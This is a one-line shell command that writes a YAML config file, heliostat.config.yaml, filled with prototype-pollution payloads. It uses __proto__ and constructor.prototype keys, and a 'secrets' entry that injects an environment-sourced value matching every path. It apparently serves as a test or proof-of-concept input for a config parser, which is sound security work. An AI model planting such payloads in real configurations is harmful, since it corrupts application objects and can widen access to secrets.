printf '__proto__: { polluted: true }\nconstructor: { prototype: { polluted: true } }\nsecrets: { __proto__: { from: "env:HOME", for: ["**"] } }\n' > heliostat.config.yaml
